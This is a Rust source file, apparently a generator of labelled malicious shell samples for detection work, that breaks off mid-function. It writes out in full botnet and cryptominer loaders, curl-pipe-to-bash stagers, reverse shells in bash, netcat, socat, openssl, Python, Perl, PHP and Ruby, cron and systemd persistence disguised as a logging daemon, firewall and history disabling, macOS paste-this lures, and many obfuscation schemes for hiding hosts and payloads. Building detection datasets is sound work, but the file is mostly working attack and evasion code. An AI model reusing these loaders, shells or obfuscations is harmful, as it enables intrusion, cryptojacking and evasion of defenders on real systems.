//! Shell: loaders of bots and miners, stagers, reverse shells, and what Bashfuscator and
//! bash-obfuscate make of them.

use super::super::{Dice, Truth, base64, codes, each, gzip, hex, put, quoted, reversed, rot13};
use super::{alphabet, among, camel, chunks, halves, numbers, places, salad};

/// An expression, or a variable that is set to it.
fn kept(dice: &mut Dice, before: &mut String, expression: &str) -> String {
    if dice.chance(45) {
        return expression.to_owned();
    }
    let name = if dice.chance(50) { dice.name() } else { camel(dice) };
    before.push_str(&format!("{name}={expression}\n"));
    if dice.chance(50) { format!("\"${name}\"") } else { format!("\"${{{name}}}\"") }
}

fn bzip2(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut encoder = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    encoder.write_all(bytes).and_then(|()| encoder.finish()).expect("memory takes it")
}

fn decoder(dice: &mut Dice) -> &'static str {
    ["base64 -d", "base64 --decode", "openssl base64 -d -A", "base64 -di"][dice.below(4)]
}

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let word = match dice.below(19) {
        0 => {
            let (data, decode) = (base64(text.as_bytes()), decoder(dice));
            match dice.below(4) {
                0 => format!("\"$(echo {data} | {decode})\""),
                1 => format!("\"`echo {data}|{decode}`\""),
                2 => format!("\"$({decode} <<< '{data}')\""),
                _ => format!("\"$(printf %s '{data}' | {decode} 2>/dev/null)\""),
            }
        }
        1 => {
            let mut out = "$'".to_owned();
            for byte in text.bytes() {
                out.push_str(&match dice.below(4) {
                    0 => format!("\\x{byte:02x}"),
                    1 => format!("\\{byte:03o}"),
                    2 => format!("\\u{byte:04x}"),
                    _ => char::from(byte).to_string(),
                });
            }
            out + "'"
        }
        2 => {
            let octal = each(text, "", |byte| format!("\\{byte:03o}"));
            match dice.below(3) {
                0 => format!("\"$(printf '{octal}')\""),
                1 => format!("\"$(printf '%b' '{}')\"", octal.replace('\\', "\\0")),
                _ => format!("\"$(echo -ne '{}')\"", each(text, "", |byte| format!("\\x{byte:x}"))),
            }
        }
        3 => {
            let all = among(dice, text, 3);
            let list: Vec<String> = all.chars().map(|it| it.to_string()).collect();
            let (array, at) = (dice.name(), dice.name());
            let order = numbers(&places(&all, text), " ");
            format!(
                "\"$({array}=({}) ; for {at} in {order};do printf %s \"${{{array}[${at}]}}\";done)\"",
                list.join(" ")
            )
        }
        4 => {
            let pieces = dice.pieces(text);
            let mut word = "\"".to_owned();
            for piece in &pieces {
                let name = dice.name();
                before.push_str(&format!("{name}='{piece}'\n"));
                word.push_str(&format!("${{{name}}}"));
                let nothing = dice.name();
                let junk = [format!("${{{nothing}}}"), "$*".into(), "$@".into(), "``".into()];
                word.push_str(&junk[dice.below(4)]);
            }
            word + "\""
        }
        5 => {
            let mark = loop {
                let mark = dice.mark(text);
                if !mark.contains(['#', '~', '@', '!']) {
                    break mark;
                }
            };
            let (name, value) = (dice.name(), dice.littered(text, &mark));
            before.push_str(&format!("{name}=\"{value}\"\n"));
            if dice.chance(60) {
                format!("\"${{{name}//{mark}/}}\"")
            } else {
                format!("\"$(echo \"${name}\" | sed 's/{mark}//g')\"")
            }
        }
        6 => {
            let (name, all) = (dice.name(), alphabet(dice, text, "abcdefghijklmnopqrstuvwxyz"));
            before.push_str(&format!("{name}='{all}'\n"));
            let list = places(&all, text);
            let picks: String = list.iter().map(|at| format!("${{{name}:{at}:1}}")).collect();
            format!("\"{picks}\"")
        }
        7 => {
            let by = if dice.chance(50) { 13 } else { 1 + dice.below(24) as u8 };
            let turn = |byte: u8| match byte {
                b'a'..=b'z' => char::from((byte - b'a' + by) % 26 + b'a'),
                other => char::from(other),
            };
            let turned: String = text.bytes().map(turn).collect();
            let start = char::from(b'a' + by);
            let end = char::from(b'a' + by - 1);
            format!("\"$(echo '{turned}' | tr '{start}-za-{end}' 'a-z')\"")
        }
        8 => {
            let turned = reversed(text);
            match dice.below(3) {
                0 => format!("\"$(echo '{turned}' | rev)\""),
                1 => format!("\"$(rev <<< \"{turned}\")\""),
                _ => format!("\"$(printf '%s' \"$(rev<<<'{turned}')\")\""),
            }
        }
        9 => {
            let data = base64(&gzip(text.as_bytes()));
            let tool = dice.pick(&["gunzip", "gzip -d", "gunzip -c", "zcat"]);
            format!("\"$(echo '{data}' | base64 -d | {tool})\"")
        }
        10 => {
            let data = hex(text.as_bytes());
            match dice.below(4) {
                0 => format!("\"$(echo {data} | xxd -r -p)\""),
                1 => format!("\"$(echo -n '{data}' | xxd -p -r)\""),
                2 => format!("\"$(perl -e 'print pack(\"H*\",\"{data}\")')\""),
                _ => format!("\"$(printf \"$(echo {data} | sed 's/../\\\\x&/g')\")\""),
            }
        }
        11 => {
            let list = codes(text.bytes(), ",");
            if dice.chance(50) {
                let form = "%c".repeat(text.len());
                format!("\"$(awk 'BEGIN{{printf \"{form}\",{list}}}')\"")
            } else {
                let list = codes(text.bytes(), " ");
                format!("\"$(echo {list} | awk '{{for(i=1;i<=NF;i++)printf(\"%c\",$i)}}')\"")
            }
        }
        12 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let said: Vec<String> = order.iter().map(|at| pieces[*at].clone()).collect();
            let word: String = (0..pieces.len())
                .filter_map(|at| order.iter().position(|it| *it == at))
                .map(|at| format!("${}", at + 1))
                .collect();
            format!("\"$(set -- {} ; printf %s \"{word}\")\"", quoted(&said, '\'').join(" "))
        }
        13 => {
            let (name, mut mixed) = (dice.name(), String::new());
            if dice.chance(50) {
                for letter in text.chars() {
                    mixed.push(if dice.chance(50) { letter.to_ascii_uppercase() } else { letter });
                }
                before.push_str(&format!("{name}='{mixed}'\n"));
                if dice.chance(60) {
                    format!("\"${{{name},,}}\"")
                } else {
                    format!("\"$(echo \"${name}\" | tr 'A-Z' 'a-z')\"")
                }
            } else {
                before.push_str(&format!("{name}='{}'\n", text.to_ascii_uppercase()));
                format!("\"${{{name}~~}}\"")
            }
        }
        14 => {
            let data = chunks(&base64(text.as_bytes()), 24).join("\n");
            let (name, end) = (dice.name(), dice.pick(&["EOF", "END", "__B64__"]));
            before.push_str(&format!("{name}=$(base64 -d <<'{end}'\n{data}\n{end}\n)\n"));
            format!("\"${name}\"")
        }
        15 => {
            let torn = text.replacen("http", "hxxp", 1).replace('.', "[.]");
            format!("\"$(echo '{torn}' | sed -e 's/^hxxp/http/' -e 's/\\[\\.\\]/./g')\"")
        }
        16 => {
            let (name, letter) = (dice.name(), dice.name());
            let list = codes(text.bytes(), " ");
            before.push_str(&format!(
                "{name}=\"\"\nfor {letter} in {list}; do {name}+=$(printf \"\\\\$(printf %03o ${letter})\"); done\n"
            ));
            format!("\"${name}\"")
        }
        17 => format!("\"$(echo '{}' | base64 -d | bunzip2 -c)\"", base64(&bzip2(text.as_bytes()))),
        _ => {
            let twice = base64(base64(text.as_bytes()).as_bytes());
            if dice.chance(50) {
                format!("\"$(echo {twice} | base64 -d | base64 -d)\"")
            } else {
                let turned = reversed(&base64(text.as_bytes()));
                format!("\"$(echo {turned} | rev | base64 -d)\"")
            }
        }
    };
    kept(dice, before, &word)
}

/// A hidden text and what it needs in front of it.
fn hidden(dice: &mut Dice, text: &str) -> (String, String) {
    let mut before = String::new();
    let word = hide(dice, text, &mut before);
    (before, word)
}

/// What is run instead of a script that says what it does.
fn wrapped(dice: &mut Dice, script: &str) -> String {
    let run = dice.pick(&["bash", "sh", "/bin/bash"]).to_owned();
    let run = if run == "sh" { "bash".to_owned() } else { run };
    match dice.below(8) {
        0 => format!("echo {} | base64 -d | {run}\n", base64(script.as_bytes())),
        1 => format!("eval \"$(echo '{}' | base64 --decode)\"\n", base64(script.as_bytes())),
        2 => {
            let inner = format!("echo {} | base64 -d | bash", base64(script.as_bytes()));
            format!("#!/bin/bash\necho '{}' | base64 -d | {run}\n", base64(inner.as_bytes()))
        }
        3 => {
            let data = chunks(&base64(&gzip(script.as_bytes())), 76).join("\n");
            format!(
                "#!/bin/bash\nskip=$(awk '/^__PAYLOAD__/ {{print NR + 1; exit 0; }}' \"$0\")\ntail -n +$skip \"$0\" | base64 -d | gunzip -c | {run}\nexit 0\n__PAYLOAD__\n{data}\n"
            )
        }
        4 => {
            // bash-obfuscate of npm.
            let mut out = "z=\"\n\";".to_owned();
            let mut call = "eval \"".to_owned();
            let lines: Vec<&str> = script.lines().collect();
            let mut at = 0usize;
            for line in lines {
                for piece in chunks(line, 4 + dice.below(3)) {
                    let (high, low) = (at / 26, at % 26);
                    let mut name = String::new();
                    let low = if low == 25 {
                        "A0".into()
                    } else {
                        char::from(b'A' + low as u8).to_string()
                    };
                    name.push_str(&low);
                    let mut rest = high;
                    loop {
                        name.push(char::from(b'a' + (rest % 26) as u8));
                        rest /= 26;
                        if rest == 0 {
                            break;
                        }
                    }
                    name.push('z');
                    out.push_str(&format!("{name}='{}';", piece.replace('\'', "'\\''")));
                    call.push_str(&format!("${{{name}}}"));
                    at += 1;
                }
                call.push_str("$z");
            }
            format!("#!/bin/bash\n{out}\n{call}\"\n")
        }
        5 => {
            let data = hex(script.as_bytes());
            format!("printf '%s' {data} | xxd -r -p | {run}\n")
        }
        6 => {
            let name = dice.name();
            let turned = chunks(&reversed(&base64(script.as_bytes())), 64);
            let mut out = format!("#!/bin/bash\n{name}=''\n");
            for line in turned {
                out.push_str(&format!("{name}+='{line}'\n"));
            }
            out + &format!("bash -c \"$(printf %s \"${name}\" | rev | base64 -d)\"\n")
        }
        _ => {
            let name = dice.name();
            format!(
                "{name}=\"$(echo '{}'|tr 'A-Za-z' 'N-ZA-Mn-za-m'|base64 -d)\";eval \"${name}\"\n",
                rot13(&base64(script.as_bytes()))
            )
        }
    }
}

/// What comes first in loaders of miners: room is made, nobody watches.
fn opening(dice: &mut Dice) -> String {
    const LINES: [&str; 12] = [
        "export PATH=$PATH:/bin:/usr/bin:/sbin:/usr/bin:/usr/local/bin\n",
        "export LC_ALL=C\n",
        "ulimit -n 65535 2>/dev/null\n",
        "setenforce 0 2>/dev/null\n",
        "export HISTFILE=/dev/null\nunset HISTFILE\n",
        "if [ -x /usr/sbin/ufw ]; then ufw disable 2>/dev/null; fi\n",
        "pkill -f xmrig-old >/dev/null 2>&1\n",
        "sysctl -w vm.nr_hugepages=128 >/dev/null 2>&1\n",
        "# keep the box quiet\n",
        "rm -rf ./.cache_old 2>/dev/null\n",
        "ARCH=$(uname -m)\n",
        "if [ \"$(id -u)\" = \"0\" ]; then WHO=root; else WHO=user; fi\n",
    ];
    let mut out = String::new();
    for at in dice.order(LINES.len()).into_iter().take(2 + dice.below(6)) {
        out.push_str(LINES[at]);
    }
    if dice.chance(30) {
        out.push_str(&rivals(dice));
    }
    out
}

/// Ends what others have left, line after line.
fn rivals(dice: &mut Dice) -> String {
    let mut out = "# others\n".to_owned();
    for _ in 0..8 + dice.below(60) {
        let name = dice.name();
        out.push_str(&match dice.below(6) {
            0 => format!("pkill -f {name} 2>/dev/null\n"),
            1 => format!("ps aux | grep -v grep | grep '{name}' | awk '{{print $2}}' | xargs -I % kill -9 % 2>/dev/null\n"),
            2 => format!("rm -rf /tmp/.{name} /var/tmp/.{name} 2>/dev/null\n"),
            3 => format!("crontab -l 2>/dev/null | sed '/{name}/d' | crontab - 2>/dev/null\n"),
            4 => format!("chattr -i /etc/cron.d/{name} 2>/dev/null\n"),
            _ => format!("netstat -anp 2>/dev/null | grep '{name}.example.org' | awk '{{print $7}}' | awk -F'[/]' '{{print $1}}' | xargs -I % kill -9 % 2>/dev/null\n"),
        });
    }
    out
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let script = plain(dice, truth);
    if dice.chance(22) && !script.contains("$0") { wrapped(dice, &script) } else { script }
}

fn plain(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(14) {
        0 => architectures(dice, truth),
        1 => miner(dice, truth),
        2 => raw_request(dice, truth),
        3 => one_line(dice, truth),
        4 => reverse_shell(dice, truth),
        5 => other_language(dice, truth),
        6 => timer(dice, truth),
        7 => variables(dice, truth),
        8 => mac(dice, truth),
        9 => pool(dice, truth),
        10 => many_tools(dice, truth),
        11 => service(dice, truth),
        12 => heredoc(dice, truth),
        _ => function_names(dice, truth),
    }
}

/// A loader of Mirai or Gafgyt: a file for each machine.
fn architectures(dice: &mut Dice, truth: &mut Truth) -> String {
    let host = dice.host();
    let folder = dice.pick(&["bins", "b", "d", "hiddenbin", "x"]);
    let name = dice.name();
    let machines =
        ["x86", "mips", "mpsl", "arm", "arm5", "arm6", "arm7", "ppc", "m68k", "sh4", "spc"];
    let count = 4 + dice.below(machines.len() - 4);
    let chosen = &machines[..count];
    let stem = format!("http://{host}/{folder}/{name}");
    for machine in chosen {
        truth.urls.insert(format!("{stem}.{machine}"));
    }
    let go = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /;";
    let (before, word) = hidden(dice, &host);
    match dice.below(3) {
        0 => {
            let mut out = "#!/bin/bash\n".to_owned();
            for machine in chosen {
                let url = format!("{stem}.{machine}");
                out.push_str(&format!(
                    "{go} wget {url}; curl -O {url}; chmod +x {name}.{machine}; ./{name}.{machine} selfrep; rm -rf {name}.{machine}\n"
                ));
            }
            out
        }
        1 => put(
            "#!/bin/bash\n@BEFORE@\nWEBSERVER=@HOST@\nBINARIES=\"@LIST@\"\nrm -rf @NAME@.*\nfor Binary in $BINARIES; do\n    @GO@\n    wget http://$WEBSERVER/@FOLDER@/@NAME@.$Binary -O .dvr || curl http://$WEBSERVER/@FOLDER@/@NAME@.$Binary -o .dvr\n    cat .dvr > wtf 2>/dev/null\n    chmod 777 .dvr wtf 2>/dev/null\n    ./.dvr telnet.$Binary\n    rm -f .dvr wtf\ndone\n",
            &[
                ("BEFORE", &before),
                ("HOST", &word),
                ("LIST", &chosen.join(" ")),
                ("NAME", &name),
                ("FOLDER", folder),
                ("GO", go),
            ],
        ),
        _ => {
            let mut out = format!("#!/bin/bash\n{before}server={word}\nn=\"{name}\"\n");
            out.push_str("dlr() {\n    wget -q \"http://$server/@FOLDER@/$n.$1\" -O \"$n.$1\" || busybox wget -q \"http://$server/@FOLDER@/$n.$1\" -O \"$n.$1\"\n    chmod 777 \"$n.$1\" && ./\"$n.$1\" \"exploit.$1\"\n    rm -rf \"$n.$1\"\n}\n".replace("@FOLDER@", folder).as_str());
            out.push_str(go);
            out.push('\n');
            for machine in chosen {
                out.push_str(&format!("dlr {machine}\n"));
            }
            out + "history -c 2>/dev/null\n"
        }
    }
}

/// A loader like Kinsing's: one function fetches, others clean up.
fn miner(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".tar.gz", "/kdaemon"]);
    let second = truth.url(dice, &[".sh", ".so"]);
    let (before, first) = hidden(dice, &url);
    let (more, other) = hidden(dice, &second);
    let name = dice.name();
    put(
        "#!/bin/bash\n@OPEN@@BEFORE@BIN_MD5=\"@SUM@\"\nBIN_DOWNLOAD_URL=@FIRST@\nBIN_PATH=\"./\"\nBIN_NAME=\"@NAME@\"\n\n@MORE@SO_URL=@SECOND@\n\nif [ \"$(id -u)\" -ne 0 ]; then\n  mkdir -p ./.tmp && touch ./.tmp/writeable\nfi\n\ncheckExists() {\n  CHECK_PATH=$1\n  MD5=$2\n  sum=$(md5sum $CHECK_PATH 2>/dev/null | awk '{ print $1 }')\n  if [ \"$MD5\" = \"$sum\" ]; then\n    echo \"true\"\n  else\n    echo \"false\"\n  fi\n}\n\ndownload() {\n  DOWNLOAD_PATH=$1\n  DOWNLOAD_URL=$2\n  if [ -L $DOWNLOAD_PATH ]; then\n    rm -rf $DOWNLOAD_PATH\n  fi\n  chmod 777 $DOWNLOAD_PATH 2>/dev/null\n  $WGET $DOWNLOAD_PATH $DOWNLOAD_URL\n  chmod +x $DOWNLOAD_PATH 2>/dev/null\n}\n\nif [ -x \"$(command -v curl)\" ]; then\n  WGET=\"curl -k -o\"\nelse\n  WGET=\"wget --no-check-certificate -O\"\nfi\n\nif [ $(checkExists \"$BIN_PATH$BIN_NAME\" \"$BIN_MD5\") == \"true\" ]; then\n  echo \"exists\"\nelse\n  download \"$BIN_PATH$BIN_NAME\" \"$BIN_DOWNLOAD_URL\"\nfi\ndownload \"./libsystem.so\" \"$SO_URL\"\n\nchmod 777 $BIN_PATH$BIN_NAME\nSKL=lf $BIN_PATH$BIN_NAME\nhistory -c 2>/dev/null\n",
        &[
            ("OPEN", &opening(dice)),
            ("BEFORE", &before),
            ("MORE", &more),
            ("SUM", &hex(salad(dice, 16).as_bytes())),
            ("FIRST", &first),
            ("SECOND", &other),
            ("NAME", &name),
        ],
    )
}

/// A request over a socket of bash, as TeamTNT and others have it where there is no curl.
fn raw_request(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, path) = (dice.host(), format!("/{}/{}.sh", dice.name(), dice.name()));
    let port = dice.chance(50).then(|| dice.port());
    let url = match port {
        Some(port) => format!("http://{host}:{port}{path}"),
        None => format!("http://{host}{path}"),
    };
    truth.urls.insert(url.clone());
    let (before, word) = hidden(dice, &url);
    if dice.chance(50) {
        put(
            "#!/bin/bash\n@OPEN@@BEFORE@\nfunction __curl() {\n  read proto server path <<<$(echo ${1//// })\n  DOC=/${path// //}\n  HOST=${server//:*}\n  PORT=${server//*:}\n  [[ x\"${HOST}\" == x\"${PORT}\" ]] && PORT=80\n\n  exec 3<>/dev/tcp/${HOST}/$PORT\n  echo -en \"GET ${DOC} HTTP/1.0\\r\\nHost: ${HOST}\\r\\n\\r\\n\" >&3\n  (while read line; do\n   [[ \"$line\" == $'\\r' ]] && break\n  done && cat) <&3\n  exec 3>&-\n}\n\n__curl @URL@ | bash\n",
            &[("OPEN", &opening(dice)), ("BEFORE", &before), ("URL", &word)],
        )
    } else {
        let port = port.unwrap_or(80);
        let (before, word) = hidden(dice, &host);
        put(
            "#!/bin/bash\n@BEFORE@h=@HOST@\np=@PORT@\nexec 5<>/dev/tcp/$h/$p\nprintf 'GET @PATH@ HTTP/1.1\\r\\nHost: %s\\r\\nUser-Agent: curl/7.68.0\\r\\nConnection: close\\r\\n\\r\\n' \"$h\" >&5\nsed '1,/^\\r$/d' <&5 > ./.x\nexec 5>&-\nchmod +x ./.x && ./.x\n",
            &[("BEFORE", &before), ("HOST", &word), ("PORT", &port.to_string()), ("PATH", &path)],
        )
    }
}

fn one_line(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".sh", "/install", ".txt"]);
    let (before, word) = hidden(dice, &url);
    let line = match dice.below(9) {
        0 => format!("curl -fsSL {word} | bash"),
        1 => format!("wget -qO- {word}|bash"),
        2 => format!("bash <(curl -s -L {word})"),
        3 => format!("eval \"$(curl -sk {word})\""),
        4 => format!("sh -c \"$(wget -q -O - {word})\""),
        5 => format!("(curl -s {word}||wget -q -O- {word})|bash"),
        6 => format!(
            "nohup bash -c \"$(curl -s {word} -A '{}')\" >/dev/null 2>&1 &",
            dice.pick(&["Mozilla/5.0", "curl/7.29.0", "Wget/1.20"])
        ),
        7 => format!(". <(curl --insecure --silent {word} 2>/dev/null)"),
        _ => format!("f=$(mktemp);curl -so $f {word}&&chmod +x $f&&$f;rm -f $f"),
    };
    // A variable that is set in front of a line is set in it as well.
    before.trim_end().lines().map(|line| format!("{line}\n")).collect::<String>() + &line + "\n"
}

fn reverse_shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host);
    let number = match dice.below(4) {
        0 => {
            let less = 1 + dice.below(40);
            format!("$(({}+{less}))", usize::from(port) - less)
        }
        1 => format!("$((0x{port:x}))"),
        _ => port.to_string(),
    };
    let line = match dice.below(11) {
        0 => format!("bash -i >& /dev/tcp/{word}/{number} 0>&1"),
        1 => format!("0<&196;exec 196<>/dev/tcp/{word}/{number}; bash <&196 >&196 2>&196"),
        2 => format!(
            "exec 5<>/dev/tcp/{word}/{number};cat <&5 | while read line; do $line 2>&5 >&5; done"
        ),
        3 => format!("rm -f ./f;mkfifo ./f;cat ./f|bash -i 2>&1|nc {word} {number} >./f"),
        4 => format!("nc -e /bin/bash {word} {number}"),
        5 => format!("ncat --ssl {word} {number} -e /bin/sh"),
        6 => format!(
            "mkfifo ./s; /bin/sh -i < ./s 2>&1 | openssl s_client -quiet -connect {word}:{number} > ./s; rm ./s"
        ),
        7 => format!("TF=$(mktemp -u);mkfifo $TF && telnet {word} {number} 0<$TF | bash 1>$TF"),
        8 => format!("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{word}:{number}"),
        9 => format!("/bin/bash -c \"/bin/bash -i >& /dev/tcp/{host}/{port} 0>&1\""),
        _ => format!("busybox nc {word} {number} -e sh"),
    };
    if dice.chance(30) {
        format!("#!/bin/bash\n{before}while true; do\n  {line}\n  sleep 60\ndone\n")
    } else {
        format!("{before}{line}\n")
    }
}

/// Another language does the connecting.
fn other_language(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(6) {
        0 => {
            let (host, port) = truth.endpoint(dice);
            format!(
                "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{host}\",{port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")'\n"
            )
        }
        1 => {
            let (host, port) = truth.endpoint(dice);
            let (before, word) = hidden(dice, &host);
            format!(
                "{before}export RHOST={word};export RPORT={port};python3 -c 'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"bash\")'\n"
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            format!(
                "perl -e 'use Socket;$i=\"{host}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"sh -i\");}};'\n"
            )
        }
        3 => {
            let (host, port) = truth.endpoint(dice);
            format!(
                "php -r '$sock=fsockopen(\"{host}\",{port});exec(\"sh <&3 >&3 2>&3\");' || ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"{host}\",{port}))'\n"
            )
        }
        4 => {
            let url = truth.url(dice, &["", ".py"]);
            format!(
                "#!/bin/bash\n{}if command -v python3 >/dev/null; then\n  python3 -c \"import urllib.request;exec(urllib.request.urlopen('{url}').read())\" &\nfi\n",
                opening(dice)
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".py"]);
            let code = format!(
                "import sys\nfrom urllib.request import urlopen\nexec(urlopen('{url}').read())\n"
            );
            format!(
                "python3 -c \"import base64;exec(base64.b64decode('{}'))\" >/dev/null 2>&1 &\n",
                base64(code.as_bytes())
            )
        }
    }
}

/// What stays: lines of cron that fetch it again.
fn timer(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".sh", ""]);
    let (before, word) = hidden(dice, &url);
    let name = dice.name();
    match dice.below(3) {
        0 => format!(
            "#!/bin/bash\n{}{before}U={word}\ncrontab -l 2>/dev/null | grep -v '{name}' | crontab - 2>/dev/null\n(crontab -l 2>/dev/null; echo \"*/5 * * * * (curl -fsSL $U || wget -q -O- $U) | bash > /dev/null 2>&1 # {name}\") | crontab -\ncurl -fsSL \"$U\" | bash\n",
            opening(dice)
        ),
        1 => format!(
            "{before}LDR=\"wget -q -O -\"\nif [ -s /usr/bin/curl ]; then LDR=\"curl -s\"; fi\nif [ -s /usr/bin/wget ]; then LDR=\"wget -q -O -\"; fi\ncc={word}\n$LDR $cc | bash\necho \"*/30 * * * * $LDR $cc | sh > /dev/null 2>&1\" | crontab -\n"
        ),
        _ => format!(
            "#!/bin/bash\n{before}URL={word}\nC=\"* * * * * wget -q -O - $URL | sh > /dev/null 2>&1\"\necho \"$C\" | crontab -\n[ -f ./.{name} ] && exit 0\ntouch ./.{name}\nwget -q -O - $URL | sh\n"
        ),
    }
}

/// Commands and parts of addresses in variables.
fn variables(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, folder) = (dice.host(), dice.name());
    let (one, two) = (dice.name(), dice.name());
    truth.urls.insert(format!("http://{host}/{folder}/{one}"));
    truth.urls.insert(format!("http://{host}/{folder}/{two}"));
    let (before, word) = hidden(dice, &host);
    match dice.below(3) {
        0 => format!(
            "#!/bin/bash\nexec &>/dev/null\nexport PATH=$PATH:/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin\n{before}d=.\nc=$(echo \"curl -4fsSLkA- -m200\")\nt=$(echo {word})\nx() {{\n  $c http://$t/{folder}/$1 -o $d/$1\n  chmod +x $d/$1\n  $d/$1\n}}\nx {one}\nsleep 1\nx {two}\n"
        ),
        1 => {
            let (w, g) = (dice.name(), dice.name());
            format!(
                "{before}{w}='w''g''e''t'\n{g}=\"-q${{IFS:0:1}}-O\"\nb={word}\nfor f in {one} {two}\ndo\n  ${w} ${g} ./$f \"http://${{b}}/{folder}/$f\"\n  chmod 0755 ./$f\n  ./$f &\ndone\n"
            )
        }
        _ => format!(
            "#!/bin/bash\n{before}\ndeclare -A cfg=([host]={word} [dir]=\"{folder}\" [proto]=\"http\")\nbase=\"${{cfg[proto]}}://${{cfg[host]}}/${{cfg[dir]}}\"\nfiles=({one} {two})\nfor i in \"${{!files[@]}}\"; do\n  c\\u\\r\\l -s \"$base/${{files[$i]}}\" -o \"./.${{files[$i]}}\"\n  ch\"\"mod +x \"./.${{files[$i]}}\"\n  (\"./.${{files[$i]}}\" >/dev/null 2>&1 &)\ndone\n"
        ),
    }
}

/// What a page tells users of macOS to paste.
fn mac(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".dmg", "/update", "/loader"]);
    match dice.below(4) {
        0 => {
            let line = format!("curl -fsSL {url} | bash");
            format!("echo \"{}\" | base64 -d | bash\n", base64(line.as_bytes()))
        }
        1 => format!(
            "echo \"Apple-Installer: https://support.example.org/macos\" && curl -kfsSL $(echo '{}'|base64 --decode)|bash\n",
            base64(url.as_bytes())
        ),
        2 => {
            let (before, word) = hidden(dice, &url);
            format!(
                "#!/bin/bash\n# Verification ID: {}\n{before}daemon_path=\"./.{}\"\ncurl -s -o \"$daemon_path\" {word}\nxattr -c \"$daemon_path\" 2>/dev/null\nchmod +x \"$daemon_path\"\n\"$daemon_path\" &\n",
                dice.below(900_000) + 100_000,
                dice.name()
            )
        }
        _ => format!(
            "#!/bin/bash\nosascript -e 'do shell script \"curl -s {url} | sh\"' >/dev/null 2>&1 || /bin/bash -c \"$(curl -fsSL {url})\"\n"
        ),
    }
}

/// A miner with its pool.
fn pool(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".tar", "/xmrig"]);
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &url);
    let (more, pool) = hidden(dice, &format!("{host}:{port}"));
    let (name, wallet) = (dice.name(), format!("4{}", salad(dice, 94)));
    put(
        "#!/bin/bash\n@OPEN@WALLET=\"@WALLET@\"\n@BEFORE@@MORE@\nif [ -f ./.@NAME@.pid ] && kill -0 $(cat ./.@NAME@.pid) 2>/dev/null; then\n  exit 0\nfi\nif command -v curl >/dev/null 2>&1; then\n  curl -fsSL -o ./@NAME@ @URL@\nelse\n  wget -q -O ./@NAME@ @URL@\nfi\nCPU=$(grep -c processor /proc/cpuinfo)\nchmod +x ./@NAME@\nnohup ./@NAME@ -o @POOL@ -u $WALLET.$(hostname | cut -c1-8) -p x -k --donate-level=1 --threads=$CPU -B >/dev/null 2>&1 &\necho $! > ./.@NAME@.pid\n",
        &[
            ("OPEN", &opening(dice)),
            ("WALLET", &wallet),
            ("BEFORE", &before),
            ("MORE", &more),
            ("NAME", &name),
            ("URL", &word),
            ("POOL", &pool),
        ],
    )
}

/// One tool after the other, as 8220's loaders do.
fn many_tools(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".sh"]);
    let (server, path) = halves(&url);
    let (before, word) = hidden(dice, &server);
    let name = dice.name();
    format!(
        "#!/bin/bash\n{}{before}\n{name}() {{\n  u=\"$1\"\n  (curl -s -k -L \"$u\" || wget -q -O- --no-check-certificate \"$u\" || lwp-download \"$u\" ./.y || fetch -o - \"$u\" || python3 -c \"import urllib.request as r;print(r.urlopen(\\\"$u\\\").read().decode())\") 2>/dev/null\n}}\ncc={word}\n{name} \"$cc{path}\" | bash\n",
        opening(dice)
    )
}

fn service(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".bin"]);
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &url);
    let name = dice.name();
    format!(
        "#!/bin/bash\n# {name} agent setup\nset +e\n{}{before}curl -sSL {word} -o ./{name} || wget -q {word} -O ./{name}\nchmod 755 ./{name}\ncat > ./{name}.service <<EOL\n[Unit]\nDescription=System Logging Daemon\nAfter=network.target\n\n[Service]\nType=simple\nExecStart=$(pwd)/{name} -c {host}:{port}\nRestart=always\nRestartSec=10\n\n[Install]\nWantedBy=multi-user.target\nEOL\nsystemctl enable ./{name}.service 2>/dev/null\n./{name} -c {host}:{port} >/dev/null 2>&1 &\n",
        opening(dice)
    )
}

/// A script that writes a script.
fn heredoc(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".elf"]);
    let (before, word) = hidden(dice, &url);
    let (file, end) = (dice.name(), dice.pick(&["EOF", "__EOT__", "SH"]));
    let inner = format!(
        "#!/bin/bash\n{before}wget -q {word} -O ./.{file}.bin\nchmod +x ./.{file}.bin\n./.{file}.bin &\n"
    );
    if dice.chance(60) {
        format!(
